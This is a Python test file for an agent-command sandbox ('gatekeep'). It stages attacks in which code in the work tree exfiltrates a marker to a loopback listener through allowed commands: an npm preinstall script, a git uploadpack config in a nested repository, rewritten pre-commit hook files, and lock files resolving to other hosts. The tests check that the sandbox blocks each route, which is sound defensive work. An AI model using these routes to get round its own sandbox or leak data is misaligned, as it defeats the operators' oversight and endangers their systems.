"""The box's network, attacked: allowed commands that would hand it to code the agent wrote.

The box gives the host's network to a command the policy allows when a part of it reaches
the network (``git fetch``, ``npm ci``, ``curl`` to loopback). The network belongs to the
whole box, so each attack here is an allowed command in which the tree's code (a script
beside the networked part, ``package.json``'s install scripts, a nested repository's
config) would get it too. Each is run by plain bash (the code reaches a listener on this
machine) and by ``gatekeep run`` (it does not: the command runs offline), in a scratch home.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest

Sandbox = Any  # the fixture's class lives in conftest.py, which test modules cannot import
pytestmark = pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")
MARK = b"LEAKED-FROM-THE-TREE"


class Listener:
    """A TCP listener on loopback that keeps every byte it is sent."""

    def __init__(self) -> None:
        self.socket = socket.socket()
        self.socket.bind(("127.0.0.1", 0))
        self.socket.listen(8)
        self.socket.settimeout(0.2)
        self.port: int = self.socket.getsockname()[1]
        self.received = b""
        self.stopped = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)

    def _serve(self) -> None:
        while not self.stopped.is_set():
            try:
                connection, _ = self.socket.accept()
            except OSError:
                continue
            with connection:
                connection.settimeout(5)
                try:
                    self.received += connection.recv(65536)
                    connection.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 3\r\n\r\nok\n")
                except OSError:
                    pass


@contextmanager
def listening() -> Iterator[Listener]:
    listener = Listener()
    listener.thread.start()
    try:
        yield listener
    finally:
        listener.stopped.set()
        listener.thread.join()
        listener.socket.close()


def leak_script(sandbox: Sandbox, port: int) -> None:
    """``leak.py`` in the tree: the agent's code, sending the mark to the listener."""
    (sandbox.work / "leak.py").write_text(
        "import socket\n"
        f"socket.create_connection(('127.0.0.1', {port}), timeout=5).sendall({MARK!r})\n")


def plain(sandbox: Sandbox, command: str, **env: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["bash", "-c", command], cwd=sandbox.work, env={**sandbox.env, **env},
                          capture_output=True, text=True, timeout=60, check=False)


def boundary(sandbox: Sandbox, command: str) -> tuple[str, bool]:
    """(decision, whether the run would get the network) of ``gatekeep check``."""
    document = json.loads(sandbox.gatekeep("check", "--json", "-c", command).stdout)
    return document["decision"], document["boundary"]["network"]


def test_a_script_beside_a_loopback_request_gets_no_network(sandbox: Sandbox) -> None:
    with listening() as listener:
        leak_script(sandbox, listener.port)
        command = f"curl -s -m 5 -o /dev/null http://127.0.0.1:{listener.port}/ ; python3 leak.py"
        assert plain(sandbox, command).returncode == 0
        # the attack works without gatekeep (its bytes reach the listener's thread a moment
        # after the command ends)
        sandbox.wait_for(lambda: MARK in listener.received)
        listener.received = b""

        assert boundary(sandbox, command) == ("allow", False)
        run = sandbox.gatekeep("run", "-c", command, timeout=60)
        assert run.returncode != 0, run.stderr
        assert MARK not in listener.received


def test_a_loopback_request_alone_still_reaches_its_service(sandbox: Sandbox) -> None:
    with listening() as listener:
        command = f"curl -s -m 5 http://127.0.0.1:{listener.port}/health"
        assert boundary(sandbox, command) == ("allow", True)
        run = sandbox.gatekeep("run", "-c", command, timeout=60)
        assert run.returncode == 0, run.stderr
        assert run.stdout == "ok\n"


@pytest.mark.parametrize("command", ["npm ci && npm test", "git fetch && make",
                                     "git fetch; python3 leak.py", "mvn test", "gradle build"])
def test_the_trees_code_never_shares_the_box_with_the_network(sandbox: Sandbox,
                                                              command: str) -> None:
    (sandbox.work / "leak.py").write_text("print('hi')\n")
    (sandbox.work / "package.json").write_text('{"name": "x", "scripts": {"test": "jest"}}\n')
    decision, network = boundary(sandbox, command)
    assert decision == "allow"
    assert network is False


@pytest.mark.parametrize("command", ["git fetch", "git fetch && git status",
                                     "git add -A && git commit -m x && git pull --rebase",
                                     "npm ci", "npm ci 2>&1 | tail -5"])
def test_what_only_reaches_the_network_keeps_it(settled: Sandbox, command: str) -> None:
    sandbox = settled  # a project outside the temp dirs: git there has the network
    subprocess.run(["git", "init", "-q", str(sandbox.work)], check=True)
    (sandbox.work / "package.json").write_text('{"name": "x", "scripts": {"test": "jest"}}\n')
    assert boundary(sandbox, command) == ("allow", True)


@pytest.mark.skipif(shutil.which("npm") is None, reason="needs npm")
def test_npm_ci_runs_the_projects_install_scripts_offline(sandbox: Sandbox) -> None:
    """``npm ci`` runs the root package's ``preinstall``: a file the agent may have written."""
    with listening() as listener:
        leak_script(sandbox, listener.port)
        (sandbox.work / "package.json").write_text(json.dumps(
            {"name": "x", "version": "1.0.0", "scripts": {"preinstall": "python3 leak.py"}}))
        (sandbox.work / "package-lock.json").write_text(json.dumps(
            {"name": "x", "version": "1.0.0", "lockfileVersion": 3, "requires": True,
             "packages": {"": {"name": "x", "version": "1.0.0"}}}))
        env = {"npm_config_update_notifier": "false", "npm_config_audit": "false",
               "npm_config_fund": "false"}
        assert plain(sandbox, "npm ci", **env).returncode == 0
        sandbox.wait_for(lambda: MARK in listener.received)
        listener.received = b""

        assert boundary(sandbox, "npm ci") == ("allow", False)
        sandbox.gatekeep("run", "-c", "npm ci", env=env, timeout=120)
        assert MARK not in listener.received


def test_npm_ci_without_install_scripts_or_with_them_ignored_gets_the_network(
        sandbox: Sandbox) -> None:
    (sandbox.work / "package.json").write_text(json.dumps(
        {"name": "x", "scripts": {"prepare": "husky", "test": "jest"}}))
    assert boundary(sandbox, "npm ci") == ("allow", False)
    assert boundary(sandbox, "npm ci --ignore-scripts") == ("allow", True)
    assert boundary(sandbox, "pnpm install --frozen-lockfile") == ("allow", False)


@pytest.mark.parametrize("manifest", ["", "[1]", "{not json", '{"scripts": "prepare"}'])
def test_a_manifest_gatekeep_cannot_read_counts_as_holding_scripts(sandbox: Sandbox,
                                                                  manifest: str) -> None:
    (sandbox.work / "package.json").write_text(manifest)
    assert boundary(sandbox, "npm ci") == ("allow", False)


def test_a_manifest_that_is_no_regular_file_counts_as_holding_scripts(sandbox: Sandbox) -> None:
    os.mkfifo(sandbox.work / "package.json")  # a writer beside it would feed npm unseen
    assert boundary(sandbox, "npm ci") == ("allow", False)
    os.unlink(sandbox.work / "package.json")
    os.symlink("/dev/stdin", sandbox.work / "package.json")
    assert boundary(sandbox, "npm ci") == ("allow", False)


def test_no_manifest_holds_no_scripts(sandbox: Sandbox) -> None:
    assert boundary(sandbox, "npm ci") == ("allow", True)


@pytest.mark.parametrize("command", [
    "printf '{\"scripts\":{\"preinstall\":\"sh x.sh\"}}' > package.json && npm ci",
    "cp other.json package.json; npm test",
    "sed -i s/jest/x/ package.json && yarn install --frozen-lockfile",
])
def test_a_manifest_written_earlier_in_the_command_is_asked(sandbox: Sandbox,
                                                            command: str) -> None:
    (sandbox.work / "package.json").write_text('{"name": "x", "scripts": {"test": "jest"}}\n')
    (sandbox.work / "other.json").write_text('{"name": "x", "scripts": {"test": "jest"}}\n')
    result = sandbox.gatekeep("check", "-c", command)
    assert result.returncode == 3, result.stdout  # ask
    assert "package.json holds, which this command writes" in result.stdout


def nested_repository(sandbox: Sandbox, port: int) -> None:
    """``sub``: a repository inside the tree whose config runs ``leak.py`` on a fetch, as
    code the policy allows (``python3 x.py``) could have written in an earlier run."""
    leak_script(sandbox, port)
    subprocess.run(["git", "init", "-q", str(sandbox.work)], check=True)
    sub = sandbox.work / "sub"
    subprocess.run(["git", "init", "-q", str(sub)], check=True)
    for key, value in (("remote.origin.url", str(sandbox.work)),
                       ("remote.origin.fetch", "+refs/heads/*:refs/remotes/origin/*"),
                       ("remote.origin.uploadpack", f"python3 {sandbox.work / 'leak.py'}")):
        subprocess.run(["git", "-C", str(sub), "config", key, value], check=True)


@pytest.mark.parametrize("command", ["cd sub && git fetch", "git -C sub fetch",
                                     "git -C sub/. pull"])
def test_git_fetch_in_a_nested_repository_runs_offline(sandbox: Sandbox, command: str) -> None:
    with listening() as listener:
        nested_repository(sandbox, listener.port)
        plain(sandbox, command)
        sandbox.wait_for(lambda: MARK in listener.received)
        listener.received = b""

        assert boundary(sandbox, command) == ("allow", False)
        sandbox.gatekeep("run", "-c", command, timeout=60)
        assert MARK not in listener.received


@pytest.mark.parametrize("flags", ["-X POST", "-d {}", "--json {}", "-T leak.py",
                                   "--request=DELETE", "-F a=b"])
def test_a_request_that_changes_a_local_service_is_asked(sandbox: Sandbox, flags: str) -> None:
    """Loopback also serves the docker daemon's API and ``kubectl proxy``: a request with a
    body or a method of its own is the operator's to approve."""
    (sandbox.work / "leak.py").write_text("print('hi')\n")
    with listening() as listener:
        command = f"curl -s -m 5 {flags} http://127.0.0.1:{listener.port}/containers/create"
        run = sandbox.gatekeep("run", "-c", command, timeout=60)
        assert run.returncode == 126, run.stderr
        assert "needs approval: local-service-changes: curl: " in run.stderr
        assert "instead: a request with a body or a method of its own can change a service" \
            in run.stderr
        assert run.stderr.endswith(sandbox.NEEDS_APPROVAL)
        assert listener.received == b""


@pytest.mark.parametrize("command", ["make deploy", "make -C . all deploy-prod",
                                     "npm run deploy", "yarn release", "just publish"])
def test_a_project_target_that_ships_it_is_asked(sandbox: Sandbox, command: str) -> None:
    (sandbox.work / "Makefile").write_text("deploy deploy-prod all:\n\ttouch marker\n")
    run = sandbox.gatekeep("run", "-c", command, timeout=60)
    assert run.returncode == 126, run.stderr
    assert "needs approval: project-release-targets: " in run.stderr
    assert "instead: its name says it ships the project" in run.stderr
    assert not sandbox.marker.exists()


# -- what the next `git commit` runs, outside any box ------------------------------------------

HOOK_WRITER = """\
import os
for name in ('.husky/pre-commit', '.pre-commit-config.yaml', 'lefthook.yml'):
    try:
        with open(name, 'w') as handle:
            handle.write('touch marker\\n')
    except OSError as error:
        print(name, error.strerror)
"""


def test_code_in_the_box_cannot_change_what_git_commit_runs(sandbox: Sandbox) -> None:
    """husky's hooks path runs ``.husky/pre-commit`` on the operator's next commit, and
    pre-commit and lefthook run what their files name: none is the box's to write."""
    subprocess.run(["git", "init", "-q", str(sandbox.work)], check=True)
    husky = sandbox.work / ".husky"
    (husky / "_").mkdir(parents=True)
    (husky / "_" / "pre-commit").write_text('#!/bin/sh\n. "$(dirname "$0")/../pre-commit"\n')
    (husky / "_" / "pre-commit").chmod(0o755)
    (husky / "pre-commit").write_text("true\n")
    (sandbox.work / ".pre-commit-config.yaml").write_text("repos: []\n")
    (sandbox.work / "writer.py").write_text(HOOK_WRITER)
    subprocess.run(["git", "-C", str(sandbox.work), "config", "core.hooksPath", ".husky/_"],
                   check=True)
    assert boundary(sandbox, "python3 writer.py") == ("allow", False)

    run = sandbox.gatekeep("run", "-c", "python3 writer.py", timeout=60)
    assert ".husky/pre-commit Read-only file system" in run.stdout
    assert ".pre-commit-config.yaml Read-only file system" in run.stdout
    assert (husky / "pre-commit").read_text() == "true\n"
    assert (sandbox.work / ".pre-commit-config.yaml").read_text() == "repos: []\n"
    assert not (sandbox.work / "lefthook.yml").exists()  # made in the box, removed after it

    commit = plain(sandbox, "git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x")
    assert commit.returncode == 0, commit.stderr
    assert not sandbox.marker.exists()


@pytest.mark.parametrize("path", [".pre-commit-config.yaml", ".husky/pre-commit",
                                  "lefthook.yml", ".lefthook/pre-commit/x.sh"])
def test_a_write_to_a_hook_runners_file_is_denied(sandbox: Sandbox, path: str) -> None:
    result = sandbox.gatekeep("check", "-c", f"echo 'touch marker' >> {path}")
    assert result.returncode == 4, result.stdout  # deny


def test_the_note_after_a_failed_networked_run_does_not_say_no_network(settled: Sandbox) -> None:
    sandbox = settled  # a project outside the temp dirs: git there has the network
    subprocess.run(["git", "init", "-q", str(sandbox.work)], check=True)
    assert boundary(sandbox, "git fetch nowhere") == ("allow", True)
    run = sandbox.gatekeep("run", "-c", "git fetch nowhere", timeout=60)
    assert run.returncode == 128, run.stderr
    assert run.stderr.endswith(sandbox.BOX_NOTE.replace(
        "; no network)", "; network on; temp dirs of its own, empty)"))


# -- what npm ci installs: the lock file's sources -------------------------------------------

def lock(sandbox: Sandbox, packages: dict[str, Any], name: str = "package-lock.json") -> None:
    (sandbox.work / "package.json").write_text('{"name": "x", "version": "1.0.0"}\n')
    (sandbox.work / name).write_text(json.dumps(
        {"name": "x", "lockfileVersion": 3, "packages": {"": {"name": "x"}, **packages}}))


REGISTRY_ENTRY = {"version": "1.3.0",
                  "resolved": "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz"}


@pytest.mark.parametrize("packages", [
    {"node_modules/left-pad": REGISTRY_ENTRY},
    {"node_modules/b": {"version": "1.0.0"}},
])
def test_npm_ci_from_the_registry_is_allowed(sandbox: Sandbox,
                                             packages: dict[str, Any]) -> None:
    lock(sandbox, packages)
    assert boundary(sandbox, "npm ci") == ("allow", True)


def test_npm_ci_linking_a_workspace_runs_offline(sandbox: Sandbox) -> None:
    """npm runs the install scripts of a package it links from the tree (red team 30)."""
    lock(sandbox, {"node_modules/a": {"resolved": "packages/a", "link": True},
                   "packages/a": {}})
    assert boundary(sandbox, "npm ci") == ("allow", False)


@pytest.mark.parametrize("source", [
    "git+ssh://git@example.com/x/y.git#abc", "https://example.com/y-1.0.0.tgz",
    "file:../outside", "../outside", "/opt/y", "https://registry.npmjs.org.example.com/y.tgz",
])
def test_npm_ci_of_a_lock_that_resolves_elsewhere_is_asked(sandbox: Sandbox,
                                                           source: str) -> None:
    lock(sandbox, {"node_modules/left-pad": REGISTRY_ENTRY,
                   "node_modules/y": {"version": "1.0.0", "resolved": source}})
    result = sandbox.gatekeep("check", "-c", "npm ci")
    assert result.returncode == 3, result.stdout
    assert (f"packages: installs node_modules/y from {source}, as package-lock.json says: "
            "not the default registry") in result.stdout


def test_a_shrinkwrap_file_is_read_before_the_lock_file(sandbox: Sandbox) -> None:
    lock(sandbox, {"node_modules/y": {"resolved": "https://example.com/y.tgz"}},
         "npm-shrinkwrap.json")
    (sandbox.work / "package-lock.json").write_text(json.dumps(
        {"lockfileVersion": 3, "packages": {"node_modules/left-pad": REGISTRY_ENTRY}}))
    assert boundary(sandbox, "npm ci")[0] == "ask"


def test_a_version_1_lock_names_its_sources_in_nested_dependencies(sandbox: Sandbox) -> None:
    (sandbox.work / "package.json").write_text('{"name": "x"}\n')
    (sandbox.work / "package-lock.json").write_text(json.dumps({"lockfileVersion": 1,
        "dependencies": {"a": {"version": "1.0.0", "dependencies": {
            "b": {"version": "github:someone/b#abc"}}}}}))
    assert boundary(sandbox, "npm ci")[0] == "ask"


@pytest.mark.parametrize("text", ["{not json", "[]", '{"packages": []}',
                                  '{"packages": {"node_modules/a": 1}}',
                                  '{"packages": {"node_modules/a": {"link": true}}}'])
def test_a_lock_gatekeep_cannot_read_is_asked(sandbox: Sandbox, text: str) -> None:
    (sandbox.work / "package.json").write_text('{"name": "x"}\n')
    (sandbox.work / "package-lock.json").write_text(text)
    result = sandbox.gatekeep("check", "-c", "npm ci")
    assert result.returncode == 3, result.stdout
    assert "installs what package-lock.json resolves, which gatekeep cannot read" in result.stdout


def test_a_lock_written_earlier_in_the_command_is_asked(sandbox: Sandbox) -> None:
    lock(sandbox, {"node_modules/left-pad": REGISTRY_ENTRY})
    (sandbox.work / "other.json").write_text("{}")
    result = sandbox.gatekeep("check", "-c", "cp other.json package-lock.json && npm ci")
    assert result.returncode == 3, result.stdout
    assert "package-lock.json holds, which this command writes" in result.stdout


@pytest.mark.skipif(shutil.which("npm") is None, reason="needs npm")
def test_npm_ci_fetches_nothing_a_lock_names_elsewhere_unasked(sandbox: Sandbox) -> None:
    with listening() as listener:
        lock(sandbox, {"node_modules/y": {
            "version": "1.0.0", "resolved": f"http://127.0.0.1:{listener.port}/y-1.0.0.tgz"}})
        (sandbox.work / "package.json").write_text(json.dumps(
            {"name": "x", "version": "1.0.0", "dependencies": {"y": "1.0.0"}}))
        env = {"npm_config_update_notifier": "false", "npm_config_fetch_retries": "0"}
        plain(sandbox, "npm ci", **env)
        assert b"GET /y-1.0.0.tgz" in listener.received  # npm fetches from where it says
        listener.received = b""

        run = sandbox.gatekeep("run", "-c", "npm ci", env=env, timeout=60)
        assert run.returncode == 126, run.stderr
        assert listener.received == b""


@pytest.mark.parametrize(("command", "setting", "text"), [
    ("yarn install --frozen-lockfile", ".yarnrc.yml", "yarnPath: .yarn/releases/yarn.cjs\n"),
    ("yarn install --frozen-lockfile", ".yarnrc", 'yarn-path "./x.js"\n'),
    ("pnpm install --frozen-lockfile", ".pnpmfile.cjs", "module.exports = {hooks: {}}\n"),
])
def test_a_package_manager_setting_that_runs_tree_code_keeps_it_offline(
        sandbox: Sandbox, command: str, setting: str, text: str) -> None:
    (sandbox.work / "package.json").write_text('{"name": "x"}\n')
    assert boundary(sandbox, command) == ("allow", True)
    (sandbox.work / setting).write_text(text)
    assert boundary(sandbox, command) == ("allow", False)


def test_npm_settings_written_earlier_in_the_command_are_asked(sandbox: Sandbox) -> None:
    (sandbox.work / "package.json").write_text('{"name": "x"}\n')
    result = sandbox.gatekeep("check", "-c", "printf 'script-shell=./x.sh' > .npmrc && npm ci")
    assert result.returncode == 3, result.stdout
    assert ".npmrc holds, which this command writes" in result.stdout
